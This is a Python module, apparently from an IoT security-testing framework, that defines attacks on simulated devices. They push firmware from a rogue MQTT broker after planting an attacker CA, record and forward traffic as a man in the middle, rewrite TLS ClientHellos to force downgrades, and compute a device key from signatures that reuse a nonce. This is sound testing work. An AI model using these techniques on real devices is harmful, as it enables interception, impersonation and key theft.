# SPDX-License-Identifier: Apache-2.0
"""Attacks by a server that is believed, or tries to be: what it can push, forward, record and compute."""

from __future__ import annotations

from dataclasses import dataclass, replace
from enum import Enum

from offchip import chip_map
from offchip.attacks.base import Applies, Attack, AttackFailed, Need
from offchip.attacks.medium import COMPLAINTS, ReplaceTrustAnchor, await_or_fail, switch_off
from offchip.attacks.reach import ADDRESS, Reach
from offchip.attacks.rogue import RogueBroker
from offchip.attacks.signatures import recover, signatures_of
from offchip.broker.client import MqttClient
from offchip.evidence import Evidence
from offchip.network.internet import Service
from offchip.network.proxy import Direction, Proxy
from offchip.scene.defence import Defence
from offchip.vault import NONE, MediumKind

_SPEAKS_S = 3.0
_CUT_S = 0.1
#: two signatures with one nonce are enough
SESSIONS = 3
#: until a device has said what it made of a call
_TELLS_S = 0.2
_COMPLAINTS = (*COMPLAINTS, "state: fault")
_DONE = ("mqtt: published", "state: waiting", "state: fault")


def plant(attack: Attack, scene: Reach, kind: MediumKind) -> list[Evidence]:
    """Put the attacker's CA certificate where the device keeps its own, as A04 does; nothing on medium ``none``."""
    if kind is NONE:
        return []
    switch_off(scene)
    planted = ReplaceTrustAnchor(kind)._plant(scene, scene.authority.root.certificate_der)
    return [replace(planted, attack=attack.id)]


def await_reaction(scene: Reach, rogue: RogueBroker) -> None:
    """Start the device and let it run until it has a session with the rogue, has refused it, or cannot even call."""
    scene.start()
    said = len(scene.board.console.lines)
    await_or_fail(scene, lambda: bool(rogue.clients or rogue.failures) or any(
        line.text.startswith(_COMPLAINTS) for line in scene.board.console.lines[said:]), "the device's reaction")
    scene.board.run(_TELLS_S)


def calls(attack: Attack, scene: Reach, rogue: RogueBroker, action: str, sent: bytes) -> Evidence:
    """What came of it at the rogue: how many calls, sessions and messages."""
    received = b"".join(visit.received for visit in rogue.visits)
    return attack.note(scene, action, scene.address, f"{len(rogue.visits)} calls, {len(rogue.clients)} sessions, "
                       f"{len(rogue.messages)} messages", sent=sent, received=received)


# A23 -----------------------------------------------------------------------------------------------------------------
def firmware_image() -> bytes:
    """A vector table and an endless loop at its reset vector: what a device would run that took it."""
    vectors = (chip_map.SRAM.end).to_bytes(4, "little") + (chip_map.FLASH.start + 0x41).to_bytes(4, "little")
    return vectors.ljust(0x40, b"\0") + bytes.fromhex("fee7") + b"offchip was here"


@dataclass(frozen=True)
class PushFirmware(Attack):
    """Answer as the server, and send whoever connects a firmware image on every topic devices take such things on.

    That is AWS IoT's job and stream topics, the thing's own, and each filter it subscribes to: as a job document with
    the image in it, and as the bare image. Before, the attacker's CA certificate is put on the medium.
    """

    id, title, keyword = "A23", "firmware image from the rogue", "Push A Firmware Image"
    needs = (Need.MEDIUM, Need.NETWORK)
    psa, emb3d, cwe = "-", "TID-211, TID-213", (494, 347)
    medium: MediumKind = NONE

    def applies(self, defence: Defence) -> Applies:
        if self.medium is not NONE and defence.medium is not self.medium:
            return Applies(False, f"under {defence.scheme.name} the device does not read the {self.medium.name} medium")
        return Applies(True, "a device that believes the server may take firmware from it")

    def fire(self, scene: Reach) -> list[Evidence]:
        evidence = plant(self, scene, self.medium)
        rogue = scene.answer_as_server(scene.authority.issue_server([scene.host]))
        image = firmware_image()
        job = (b'{"execution":{"jobId":"update","jobDocument":{"operation":"firmware","version":"9.9.9","image":"'
               + image.hex().encode() + b'"}}}')
        jobs = f"$aws/things/{scene.thing}"
        topics = [f"{jobs}/jobs/notify-next", f"{jobs}/jobs/$next/get/accepted", f"{jobs}/streams/update/data/json",
                  f"offchip/things/{scene.thing}/firmware", ""]
        rogue.pushes = [(topic, content) for topic in topics for content in (job, image)]
        await_reaction(scene, rogue)
        if rogue.clients:
            scene.board.run(_SPEAKS_S)
        return [*evidence, calls(self, scene, rogue, "push firmware", b"".join(each for _, each in rogue.pushes))]


# A27 -----------------------------------------------------------------------------------------------------------------
class Upstream(Enum):
    """What the genuine server asks of its clients."""

    MUTUAL = "mutual"
    SERVER_ONLY = "server-only"


@dataclass(frozen=True)
class StandBetween(Attack):
    """Stand between device and server, record everything and pass it on.

    First as a wire: every byte is recorded and searched. Then as two ends: the attacker's CA certificate is put on the
    ``medium`` (``none``: nowhere), his server answers the device, and what it tells him he publishes to the genuine
    server in its name, with the identity he has found, or without one.

    | =upstream= | =Description= |
    | mutual | the server asks for the client's certificate, as AWS IoT does |
    | server-only | as a careless owner runs it: whoever connects is a client |
    """

    id, title, keyword = "A27", "imposter that records and forwards", "Stand Between Device And Server"
    needs = (Need.NETWORK, Need.MEDIUM)
    psa, emb3d, cwe = "T.MITM", "TID-316, TID-406", (300, 322)
    medium: MediumKind = NONE
    upstream: Upstream = Upstream.MUTUAL

    def applies(self, defence: Defence) -> Applies:
        if self.medium is not NONE and defence.medium is not self.medium:
            return Applies(False, f"under {defence.scheme.name} the device does not read the {self.medium.name} medium")
        return Applies(True, "whoever holds the network can stand there")

    def fire(self, scene: Reach) -> list[Evidence]:
        server = scene.server if self.upstream is Upstream.MUTUAL else scene.careless
        if server is None:
            raise AttackFailed("there is no server that takes clients without a certificate")
        evidence = [self._as_a_wire(scene, server), *plant(self, scene, self.medium)]
        rogue = scene.answer_as_server(scene.authority.issue_server([scene.host]))
        passed: list[bytes] = []
        client = MqttClient(scene.thing, scene.loot.identity, (scene.trusted,), scene.host, seed="impostor")
        client.connect(server, ADDRESS)
        alerts = " ".join(f"alert {number} {name}" for way, number, name in client.alerts if way == "received")

        def forward(topic: str, payload: bytes) -> None:
            if client.connected and client.publish(topic, payload):
                passed.append(topic.encode() + b" " + payload)

        rogue.on_message = forward
        await_reaction(scene, rogue)
        if rogue.clients:
            scene.board.run(_SPEAKS_S)
        client.disconnect()
        outcome = f"{len(passed)} messages passed on; the server said {alerts or 'nothing against it'}"
        heard = b"\n".join(topic.encode() + b" " + payload for topic, payload in rogue.messages)
        return [*evidence, calls(self, scene, rogue, "answer for the server", rogue.identity.certificate_der),
                self.note(scene, "forward", scene.address, outcome, sent=b"\n".join(passed) or b"CONNECT",
                          received=heard or alerts.encode())]

    def _as_a_wire(self, scene: Reach, server: Service) -> Evidence:
        line = Proxy(server)
        scene.board.internet.redirect(scene.host, scene.port, line)
        scene.start()
        said = len(scene.board.console.lines)
        await_or_fail(scene, lambda: any(line.text.startswith(_DONE) for line in scene.board.console.lines[said:]),
                      "the end of the device's first attempt")
        scene.board.internet.restore(scene.host, scene.port)
        sent, received = line.recorded(Direction.TO_SERVER), line.recorded(Direction.TO_DEVICE)
        place = f"{scene.address}, on the wire"
        if not sent:
            return self.note(scene, "record", place, "the device did not call", received=b"nothing")
        return self.note(scene, "record", place, scene.loot.search(sent + received, place), sent=sent,
                         received=received)


# A28 -----------------------------------------------------------------------------------------------------------------
class Downgrade(Enum):
    """What is made worse."""

    NO_TLS_1_3 = "no-tls-1.3"
    OLD_VERSION = "old-version"
    WEAK_SUITE = "weak-suite"
    NO_SAFE_RENEGOTIATION = "no-safe-renegotiation"
    OLD_SERVER = "old-server"
    WEAK_CURVE = "weak-curve"
    RESUMPTION = "resumption"
    SIGNATURES = "signatures"


#: where his server is the other end
_OWN_SERVER = (Downgrade.OLD_SERVER, Downgrade.WEAK_CURVE, Downgrade.SIGNATURES)


@dataclass(frozen=True)
class DowngradeTls(Attack):
    """Make device and server agree on less than they could, or let the device sign as often as it will.

    | =how= | =Description= |
    | no-tls-1.3 | the device's offer of TLS 1.3 is taken out of its ClientHello on the way |
    | old-version | its ClientHello says TLS 1.0 and nothing newer |
    | weak-suite | it offers TLS_RSA_WITH_AES_128_CBC_SHA alone, without forward secrecy |
    | no-safe-renegotiation | its sign that it renegotiates safely (RFC 5746, 3.3) is taken out |
    | old-server | a server of the attacker's answers that speaks TLS 1.0 and 1.1 only |
    | weak-curve | his server agrees on keys on P-192 only, which gives 96 bits of security |
    | resumption | the network is cut behind the first session; the device may come back with a ticket of it, which |
    | | would spare its server the certificates |
    | signatures | his server asks for the device's certificate and lets it sign, three times; all signatures are then |
    | | checked, compared, and the private key computed from any two that share a nonce, or from a nonce below 4096 |

    ``medium``: where his own server answers, on what the attacker's CA certificate is put first (``none``: nowhere).
    """

    id, title, keyword = "A28", "TLS downgrade, key from recorded sessions", "Downgrade The Connection"
    needs = (Need.NETWORK, Need.MEDIUM)
    psa, emb3d, cwe = "T.MITM", "TID-316, TID-318", (757, 326, 323)
    how: Downgrade = Downgrade.NO_TLS_1_3
    medium: MediumKind = NONE

    def applies(self, defence: Defence) -> Applies:
        if self.medium is not NONE and defence.medium is not self.medium:
            return Applies(False, f"under {defence.scheme.name} the device does not read the {self.medium.name} medium")
        if self.medium is not NONE and self.how not in _OWN_SERVER:
            return Applies(False, "on the way between device and genuine server no CA certificate is needed")
        return Applies(True, "whoever holds the network can change what is said before the keys are agreed")

    def fire(self, scene: Reach) -> list[Evidence]:
        if self.how is Downgrade.SIGNATURES:
            return self._collect(scene)
        if self.how in _OWN_SERVER:
            return self._worse_server(scene)
        return self._twice(scene) if self.how is Downgrade.RESUMPTION else self._on_the_way(scene)

    def _on_the_way(self, scene: Reach) -> list[Evidence]:
        changes = {Downgrade.NO_TLS_1_3: without_tls_1_3, Downgrade.OLD_VERSION: with_old_version,
                   Downgrade.WEAK_SUITE: with_weak_suite, Downgrade.NO_SAFE_RENEGOTIATION: without_safe_renegotiation}
        change = changes[self.how]
        seen: list[tuple[bytes, bytes]] = []

        def rule(direction: Direction, data: bytes) -> bytes:
            if direction is Direction.TO_SERVER and data[:1] == b"\x16" and data[5:6] == b"\x01":
                seen.append((data, change(data)))
                return seen[-1][1]
            return data

        line = Proxy(scene.server, rule)
        scene.board.internet.redirect(scene.host, scene.port, line)
        scene.start()
        said = len(scene.board.console.lines)
        await_or_fail(scene, lambda: bool(seen) and any(
            each.text.startswith(("mqtt: connected", *_DONE)) for each in scene.board.console.lines[said:]),
            "a handshake with the changed offer")
        scene.board.internet.restore(scene.host, scene.port)
        if seen[0][0] == seen[0][1]:
            raise AttackFailed("the device's ClientHello had nothing that could be made worse")
        words = [each.text for each in scene.board.console.lines[said:] if each.text.startswith("tls: ")]
        return [self.note(scene, "change the offer", scene.address, f"{self.how.value}; {words[0] if words else ''}",
                          before=seen[0][0], after=seen[0][1], received=line.recorded(Direction.TO_DEVICE))]

    def _worse_server(self, scene: Reach) -> list[Evidence]:
        evidence = plant(self, scene, self.medium)
        rogue = scene.answer_as_server(scene.authority.issue_server([scene.host]))
        if self.how is Downgrade.OLD_SERVER:
            rogue.speak_old_tls()
        else:
            rogue.agree_on_a_weak_curve()
        await_reaction(scene, rogue)
        terms = "with TLS 1.0 and 1.1" if self.how is Downgrade.OLD_SERVER else "with P-192"
        return [*evidence, calls(self, scene, rogue, f"answer {terms}", rogue.identity.certificate_der)]

    def _twice(self, scene: Reach) -> list[Evidence]:
        """Two sessions of one life of the device, the second right behind the first; both ClientHellos are kept."""
        line, modem = Proxy(scene.server), scene.board.modem
        if modem is None:
            raise AttackFailed("the board has no modem: there is no network to be cut")
        scene.board.internet.redirect(scene.host, scene.port, line)
        scene.start()
        for number in (1, 2):
            self._await_session(scene, line, number)
            modem.network_up = False
            scene.board.run(_CUT_S)
            modem.network_up = True
        scene.board.internet.restore(scene.host, scene.port)
        return [self.note(scene, "record a ClientHello", scene.address, f"of session {number}", received=each)
                for number, each in enumerate(hellos(line), 1)]

    @staticmethod
    def _await_session(scene: Reach, line: Proxy, number: int) -> None:
        said = len(scene.board.console.lines)
        await_or_fail(scene, lambda: len(hellos(line)) >= number and any(
            each.text.startswith("mqtt: published") for each in scene.board.console.lines[said:]), f"session {number}")

    def _collect(self, scene: Reach) -> list[Evidence]:
        evidence = plant(self, scene, self.medium)
        rogue = scene.answer_as_server(scene.authority.issue_server([scene.host]))
        rogue.asks = (scene.trusted,)
        for _ in range(SESSIONS):
            known = len(rogue.clients), len(rogue.failures)
            scene.start()
            said = len(scene.board.console.lines)
            await_or_fail(scene, lambda known=known, said=said: (  # type: ignore[misc]
                len(rogue.clients), len(rogue.failures)) != known or any(
                each.text.startswith(_COMPLAINTS) for each in scene.board.console.lines[said:]), "the device's call")
            if not rogue.clients:
                break  # it does not believe him, and will not the next time
        signatures = [each for visit in rogue.visits for each in signatures_of(visit)]
        recovered = recover(signatures)
        scene.loot.add_key(recovered, f"{scene.address}, recorded sessions")
        nonces = len({each.r for each in signatures})
        words = (f"{len(signatures)} signatures of the device verified, {nonces} different nonces, "
                 f"{'the private key computed' if recovered else 'no private key follows from them'}")
        return [*evidence, self.note(scene, "compute from recorded sessions", scene.address, words,
                                     sent=rogue.identity.certificate_der,
                                     received=b"".join(each.encoded for each in signatures) or b"nothing was signed")]


def hellos(line: Proxy) -> list[bytes]:
    """The ClientHellos that a line has seen, one a connection."""
    return [each.data for each in line.chunks if each.direction is Direction.TO_SERVER and each.data[:1] == b"\x16"
            and each.data[5:6] == b"\x01"]


def without_tls_1_3(record: bytes) -> bytes:
    """A ClientHello whose supported_versions name TLS 1.2 twice (RFC 8446, 4.2.1): no length changes."""
    return record.replace(b"\x03\x04\x03\x03", b"\x03\x03\x03\x03", 1)


def with_old_version(record: bytes) -> bytes:
    """A ClientHello for TLS 1.0 (RFC 2246); the extension with newer versions becomes an unknown one."""
    changed = bytearray(record)
    changed[9:11] = b"\x03\x01"
    at = bytes(changed).find(b"\x00\x2b\x00")
    if at > 0:
        changed[at:at + 2] = b"\xfa\xfa"
    return bytes(changed)


def with_weak_suite(record: bytes) -> bytes:
    """A ClientHello that names one suite over and over: 0x002F, RSA key transport, CBC, SHA-1 (RFC 5246, A.5)."""
    start, end = _suites(record)
    return record[:start] + b"\x00\x2f" * ((end - start) // 2) + record[end:]


def without_safe_renegotiation(record: bytes) -> bytes:
    """A ClientHello with a suite nobody knows (RFC 8701) in place of TLS_EMPTY_RENEGOTIATION_INFO_SCSV (RFC 5746)."""
    start, end = _suites(record)
    suites = [record[at:at + 2] for at in range(start, end, 2)]
    return record[:start] + b"".join(b"\x0a\x0a" if each == b"\x00\xff" else each for each in suites) + record[end:]


def _suites(record: bytes) -> tuple[int, int]:
    """Where a ClientHello's cipher suites begin and end (RFC 5246, 7.4.1.2)."""
    at = 5 + 4 + 2 + 32
    at += 1 + record[at]
    return at + 2, at + 2 + int.from_bytes(record[at:at + 2], "big")
